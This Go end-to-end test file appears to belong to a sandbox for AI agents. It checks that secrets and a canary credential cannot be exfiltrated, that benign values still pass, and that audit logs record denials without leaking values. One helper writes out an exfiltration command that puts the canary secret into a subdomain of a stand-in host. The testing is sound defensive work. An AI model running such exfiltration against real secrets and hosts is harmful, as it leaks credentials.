//go:build linux

package e2e_test

import (
	"cmp"
	"crypto/sha256"
	"encoding/base32"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/claude-bottle/claude-bottle/internal/audit"
	"github.com/claude-bottle/claude-bottle/internal/state"
)

// Who gets at a secret in a bottle can't carry it out, to a host that is allowed, on any surface, in any
// disguise, by any way; and nobody is told it. What only looks like it gets out.
func TestC01C13Exfiltration(t *testing.T) {
	t.Parallel()
	for _, w := range ways {
		t.Run(w.name, func(t *testing.T) {
			t.Parallel()
			h := newHome(t)
			h.env["DB_PASSWORD"] = listed
			h.manifest(t, "bottles/attack.md", exfilBottle)
			f := thief{b: h.bottle(t), way: w.name, curl: w.curl}
			canary := f.canary(t)
			place := "file" // one of the two is enough on each way
			if w.name == "proxy" {
				place = "env"
			}
			var tried []expectation
			for _, row := range thefts {
				if !strings.Contains(cmp.Or(row.ways, w.name), w.name) {
					continue
				}
				f.innocent(t, row)
				if row.pieces != "listed" {
					tried = append(tried, f.rob(t, row, place, canary))
				}
				if row.pieces != "canary" {
					tried = append(tried, f.rob(t, row, "listed", listed))
				}
			}
			f.b.auditedAll(t, tried, w.via)
			f.elsewhere(t)
			f.b.silent(t, canary, listed)
			for _, q := range world.dns.asked() {
				if disguised(strings.ReplaceAll(q, ".", ""), append(parts(canary), parts(listed)...)...) {
					t.Errorf("a query left: %s", q)
				}
			}
		})
	}
}

// innocent is a row's benign twin: a value as good as a secret arrives.
func (f thief) innocent(t *testing.T, row theft) {
	t.Helper()
	twin := letters(f.way + " " + row.name)
	o, path := f.try(t, row.name, row.script, twin)
	if strings.Contains(o.Stdout, "claude-bottle: denied") || !holds(world.sites.arrived(path), twin) {
		t.Errorf("benign twin of %s did not arrive: %+v", row.name, o)
	}
}

// rob tries a row with a secret, checks that nothing of it arrived, and returns what the audit log is to
// say of it.
func (f thief) rob(t *testing.T, row theft, loot, value string) expectation {
	t.Helper()
	o, path := f.try(t, row.name, row.script, loot)
	e := expectation{path: path, where: row.where, name: "DB_PASSWORD", kind: "known", via: row.via}
	if loot != "listed" {
		e.name, e.kind = "BACKUP_AWS_SECRET_ACCESS_KEY", "canary"
	}
	if !row.mute {
		e.toldInside(t, o, value)
	}
	switch all := world.sites.arrived(path); {
	case row.pieces == "" && holds(all, parts(value)...):
		t.Errorf("%s: a part of it arrived: %.300q", path, all)
	case row.pieces != "" && (holds(all, value) || len(all) == 0):
		t.Errorf("%s: it came together, from %d pieces", path, len(all))
	}
	return e
}

// elsewhere sends the canary to where it would not arrive anyway: it raises the alarm all the same.
func (f thief) elsewhere(t *testing.T) {
	t.Helper()
	f.try(t, "elsewhere", `c "https://$V.unlisted.test/"`, "env")
	f.b.audited(t, "the canary on its way elsewhere", "no rule of this bottle names the host", func(e audit.Event) bool {
		return slices.ContainsFunc(e.Findings, func(f audit.Finding) bool { return f.Kind == "canary" && f.Action == "blocked" })
	})
}

// letters is a value of the canary's form, the same in every run: by chance a drawn one could look like
// somebody's credential.
func letters(name string) string {
	sum := sha256.Sum256([]byte(name))
	text := base32.StdEncoding.EncodeToString(sum[:])
	return text[:20] + strings.ToLower(text[20:40])
}

// canary reads it where an attacker would, which is in two places.
func (f thief) canary(t *testing.T) string {
	t.Helper()
	read := func(loot string) string {
		o, _ := f.try(t, "read", "v", loot)
		return o.Stdout
	}
	env, file := read("env"), read("file")
	if len(env) != 40 || env != file || read("listed") != listed {
		t.Fatalf("the bottle's secrets are not where they are to be: %q, %q", env, file)
	}
	return env
}

// expectation is what the audit log must say of a theft.
type expectation struct{ path, where, name, kind, via string }

// toldInside checks that the thief was told what was found, by whom, and not the value.
func (e expectation) toldInside(t *testing.T, o outcome, value string) {
	t.Helper()
	what := "the secret " + e.name + " of this bottle"
	if e.kind == "canary" {
		what = "this bottle's canary"
	}
	for _, text := range []string{"claude-bottle: denied", "carries " + what, "Rule: "} {
		if !strings.Contains(o.Stdout, text) {
			t.Errorf("%s: the denial does not say %q: %+v", e.path, text, o)
		}
	}
	if disguised(o.Stdout+o.Stderr, parts(value)...) {
		t.Errorf("%s: the denial tells the value: %+v", e.path, o)
	}
}

// auditedAll checks that the log has a finding for every theft, by the way it was tried on.
func (b *sealed) auditedAll(t *testing.T, all []expectation, via []audit.Via) {
	t.Helper()
	missing := func() (left []expectation) {
		events := b.events(t)
		for _, e := range all {
			if !slices.ContainsFunc(events, func(ev audit.Event) bool { return slices.Contains(via, ev.Via) && e.in(ev) }) {
				left = append(left, e)
			}
		}
		return left
	}
	var left []expectation
	for end := time.Now().Add(patience); ; time.Sleep(20 * time.Millisecond) {
		if left = missing(); len(left) == 0 {
			return
		}
		if time.Now().After(end) {
			break
		}
	}
	for _, e := range left {
		t.Errorf("the audit log has no finding of %+v", e)
		for _, ev := range b.events(t) {
			if strings.HasPrefix(ev.Path, e.path) {
				t.Logf("it has %s %s: %s: %+v", ev.Via, ev.Verdict, ev.Why, ev.Findings)
			}
		}
	}
}

// in reports whether ev is the denial that e expects.
func (e expectation) in(ev audit.Event) bool {
	if ev.Verdict != "deny" || e.where == "" && ev.Path != e.path && !strings.HasPrefix(ev.Path, e.path+"/") {
		return false
	}
	return slices.ContainsFunc(ev.Findings, func(f audit.Finding) bool {
		return f.Action == "blocked" && f.Kind == e.kind && f.Name == e.name && f.Where != "" && strings.Contains(f.Where, e.where) && f.Digest != "" && strings.Contains(f.Via, e.via)
	})
}

// silent checks that neither the audit log nor what is shown of it holds the values, and that it is inert.
func (b *sealed) silent(t *testing.T, values ...string) {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(b.dir, state.AuditFile))
	if err != nil {
		t.Fatal(err)
	}
	shown := b.home.run(t, "logs", b.id, "--audit")
	if shown.code != 0 || !strings.Contains(shown.out, "carries this bottle's canary") || !strings.Contains(shown.out, "carries the secret DB_PASSWORD of this bottle") {
		t.Errorf("the log is not shown: %v", shown)
	}
	var search []string
	for _, v := range values {
		search = append(search, parts(v)...)
	}
	for name, text := range map[string]string{"the audit log": string(raw), "what is shown of it": shown.String()} {
		for line := range strings.Lines(text) {
			if disguised(line, search...) {
				t.Errorf("%s holds a part of a secret: %s", name, line)
			}
		}
		if i := strings.IndexFunc(text, func(r rune) bool { return r < ' ' && r != '\n' || r == 0x7f || r >= 0x80 && r < 0xa0 }); i >= 0 {
			t.Errorf("%s holds the character %q", name, text[i])
		}
	}
}
